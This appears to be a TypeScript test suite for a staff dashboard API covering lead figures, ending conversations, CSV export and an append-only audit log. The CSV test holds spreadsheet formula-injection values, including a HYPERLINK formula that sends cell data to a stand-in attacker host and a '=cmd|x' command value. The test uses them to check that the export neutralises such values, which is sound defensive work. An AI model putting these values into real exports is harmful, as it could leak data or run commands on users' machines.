import { sql } from 'kysely'
import { expect, test } from 'vitest'
import { type Desk, MIRA, openDesk } from '../../../tests/support/server/desk-server.ts'
import { insertTalk } from '../../../tests/support/server/insert-talk.ts'
import { describeEachStore } from '../../../tests/support/stores.ts'
import { keepTranscript } from '../talks/transcripts.ts'

let made = 0
const leave = (desk: Desk, given: object = {}) => {
  made += 1
  return desk.services.leads.record(desk.db, {
    kind: 'signup',
    recordId: `record ${made}`,
    email: `visitor${made}@example.com`,
    name: 'Vera Visitor',
    headline: 'Consultation',
    ...given,
  })
}
const DAY_MS = 24 * 60 * 60_000

describeEachStore('figures at the desk', (openTestStore) => {
  test('are counted by day and by source, and every day of the span is there', async () => {
    await using desk = await openDesk(await openTestStore())
    const talk = (given: object = {}) => insertTalk(desk, { state: 'ended', ...given })
    await talk({ source: 'home' })
    await talk({ source: 'home', isJoined: true })
    await talk({ source: 'leadership', isJoined: true, attribution: { source: 'Fair', landing: '/' } })
    await talk({ source: 'consult', isJoined: true })
    await talk({ source: 'home', isStarted: false, state: 'refused' })
    await leave(desk)
    await leave(desk, { kind: 'waitlist', attribution: { source: 'fair' } })
    await leave(desk, { isSuspect: true })
    desk.wait(2 * DAY_MS)
    await talk({ source: 'home' })
    const mira = await desk.signIn()
    const answer = await mira.get('/api/staff/figures?from=2026-03-02&to=2026-03-04')
    expect(answer.statusCode).toBe(200)
    expect(answer.json()).toEqual({
      from: '2026-03-02',
      to: '2026-03-04',
      total: { starts: 5, talks: 3, signups: 1, leads: 2, conversion: 0.2 },
      days: [
        { day: '2026-03-02', starts: 4, talks: 3, signups: 1, leads: 2, conversion: 0.25 },
        { day: '2026-03-03', starts: 0, talks: 0, signups: 0, leads: 0, conversion: null },
        { day: '2026-03-04', starts: 1, talks: 0, signups: 0, leads: 0, conversion: 0 },
      ],
      sources: [
        { source: 'direct', starts: 4, talks: 2, signups: 1, leads: 1, conversion: 0.25 },
        { source: 'fair', starts: 1, talks: 1, signups: 0, leads: 1, conversion: 0 },
      ],
      starts: [
        { from: 'home', starts: 3, talks: 1 },
        { from: 'leadership', starts: 1, talks: 1 },
        { from: 'consult', starts: 1, talks: 1 },
      ],
    })
  })

  test('are of the last thirty days unless asked otherwise, and of a year at most', async () => {
    await using desk = await openDesk(await openTestStore())
    const mira = await desk.signIn()
    const { from, to, days } = (await mira.get('/api/staff/figures')).json()
    expect([from, to, days.length]).toEqual(['2026-02-01', '2026-03-02', 30])
    expect((await mira.get('/api/staff/figures?from=2025-03-02&to=2026-03-02')).json().days).toHaveLength(366)
    for (const query of ['from=2025-03-01&to=2026-03-02', 'from=2026-03-03&to=2026-03-02', 'from=soon'])
      expect((await mira.get(`/api/staff/figures?${query}`)).statusCode).toBe(400)
  })

  test('name the busiest twenty sources and put the rest together', async () => {
    await using desk = await openDesk(await openTestStore())
    for (let n = 0; n < 24; n++) await leave(desk, { attribution: { source: `campaign ${n}` } })
    await leave(desk, { attribution: { source: 'campaign 7' } })
    const mira = await desk.signIn()
    const { sources } = (await mira.get('/api/staff/figures')).json()
    expect(sources).toHaveLength(21)
    expect(sources[0]).toMatchObject({ source: 'campaign 7', leads: 2 })
    expect(sources[20]).toMatchObject({ source: 'other', leads: 4 })
  })
})

describeEachStore('conversations at the desk', (openTestStore) => {
  test('those that run are shown with their age and their lead; one is ended, and it is written down by whom', async () => {
    await using desk = await openDesk(await openTestStore())
    await insertTalk(desk, { state: 'ended', isJoined: true })
    const older = await insertTalk(desk, { state: 'active', isJoined: true, source: 'consult' })
    const leadId = await leave(desk, { conversationId: older })
    const turns = [{ speaker: 'visitor' as const, text: 'Good morning' }]
    await keepTranscript(desk.db, desk.services.staff.clock, older, turns)
    desk.wait(90_000)
    const newer = await insertTalk(desk, { state: 'active' })
    const mira = await desk.signIn()
    const shown = async () => (await mira.get('/api/staff/conversations')).json().conversations
    expect(await shown()).toMatchObject([
      { id: older, source: 'consult', ageSeconds: 90, isJoined: true, leadId },
      { id: newer, source: 'home', ageSeconds: 0, isJoined: false, leadId: null },
    ])

    expect((await mira.get(`/api/staff/leads/${leadId}`)).json().conversation).toMatchObject({
      isActive: true,
      seconds: 90,
      endReason: null,
    })
    expect((await mira.post(`/api/staff/conversations/${older}/end`)).statusCode).toBe(204)
    expect((await mira.post(`/api/staff/conversations/${older}/end`)).statusCode).toBe(204)
    expect((await mira.post('/api/staff/conversations/unheard-of/end')).statusCode).toBe(404)
    expect((await shown()).map(({ id }: { id: string }) => id)).toEqual([newer])
    expect((await mira.get(`/api/staff/leads/${leadId}`)).json()).toMatchObject({
      conversation: { id: older, isActive: false, endReason: 'staff' },
      transcript: turns,
    })
    const { entries } = (await mira.get('/api/staff/audit?action=conversation.ended')).json()
    expect(entries).toMatchObject([{ actor: MIRA, subject: older }])
  })
})

describeEachStore('the CSV file', (openTestStore) => {
  test('holds all pages of what is filtered, and says in the audit that it was taken', async () => {
    await using desk = await openDesk(await openTestStore())
    await desk.db.transaction().execute(async (trx) => {
      for (let n = 0; n < 1203; n++)
        await desk.services.leads.record(trx, {
          kind: n % 2 ? 'message' : 'waitlist',
          recordId: `row ${n}`,
          email: `v${n}@example.com`,
          name: `Name ${n}`,
          headline: 'Line',
        })
    })
    const mira = await desk.signIn()
    for (const query of ['', 'kind=message', 'search=name&kind=message']) {
      const answer = await mira.get(`/api/staff/leads.csv?${query}`)
      expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
      expect(answer.headers['content-disposition']).toBe('attachment; filename="leads-2026-03-02.csv"')
      const [header, ...lines] = answer.body.trimEnd().split('\n')
      expect(header).toMatch(/^\uFEFFid,createdAt,kind,state,owner,name,email,headline,source/)
      expect(lines).toHaveLength(query ? 601 : 1203)
      expect(new Set(lines.map((line) => line.split(',')[0])).size).toBe(lines.length)
    }
    const { entries } = (await mira.get('/api/staff/audit?action=leads.exported')).json()
    expect(entries.map(({ detail }: { detail: object }) => detail)).toEqual([
      { suspects: 'shown', kind: 'message', search: 'by words' },
      { suspects: 'shown', kind: 'message' },
      { suspects: 'shown' },
    ])
  })

  test('runs no formula and breaks at no comma, quote or line', async () => {
    await using desk = await openDesk(await openTestStore())
    const nasty = [
      '=HYPERLINK("http://evil.example?"&A1)',
      '+1-555',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '＝1+1',
      'Comma, "Quote"',
    ]
    for (const name of nasty) await leave(desk, { name, headline: '=cmd|x' })
    const mira = await desk.signIn()
    const { body } = await mira.get('/api/staff/leads.csv')
    const rows = parseCsv(body).slice(1)
    // Where tabs separate, what stands behind one is a cell of its own.
    const written = (name: string) => `'${name.replace('\t=', "\t'=")}`
    expect(rows.map((row) => row[5])).toEqual(
      nasty.toReversed().map((name) => (name.startsWith('Comma') ? name : written(name))),
    )
    for (const row of rows) {
      expect(row[7]).toBe("'=cmd|x")
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
    }
  })
})

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\n]*))(,|\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\n') rows.push([])
    if (end === '') break
  }
  return rows.filter((row) => row.length > 1)
}

describeEachStore('the audit', (openTestStore) => {
  test('is paged, newest first, by who and by what', async () => {
    await using desk = await openDesk(await openTestStore())
    const mira = await desk.signIn()
    const id = await leave(desk)
    for (let version = 1; version < 6; version++) {
      desk.wait(1000)
      await mira.patch(`/api/staff/leads/${id}`, { version, state: version % 2 ? 'in_work' : 'new' })
    }
    const first = (await mira.get('/api/staff/audit?action=lead.state&limit=3')).json()
    const rest = (await mira.get(`/api/staff/audit?action=lead.state&limit=3&cursor=${first.next}`)).json()
    expect([first.entries.length, rest.entries.length, rest.next]).toEqual([3, 2, null])
    const moments = [...first.entries, ...rest.entries].map(({ createdAt }) => createdAt)
    expect(moments).toEqual(moments.toSorted().toReversed())
    expect((await mira.get('/api/staff/audit?actor=omar@desk.example')).json().entries).toEqual([])
    expect((await mira.get('/api/staff/audit?cursor=forged')).statusCode).toBe(400)
  })

  test('cannot be changed by anything the desk offers', async () => {
    await using desk = await openDesk(await openTestStore())
    const document = (await desk.anyone.get('/api/openapi.json')).json()
    const writing = Object.entries(document.paths['/api/staff/audit'] ?? {}).map(([method]) => method)
    expect(writing).toEqual(['get'])
    const { rows } = await sql`select count(*) as count from audit`.execute(desk.db)
    expect(rows).toEqual([{ count: 0 }])
  })
})
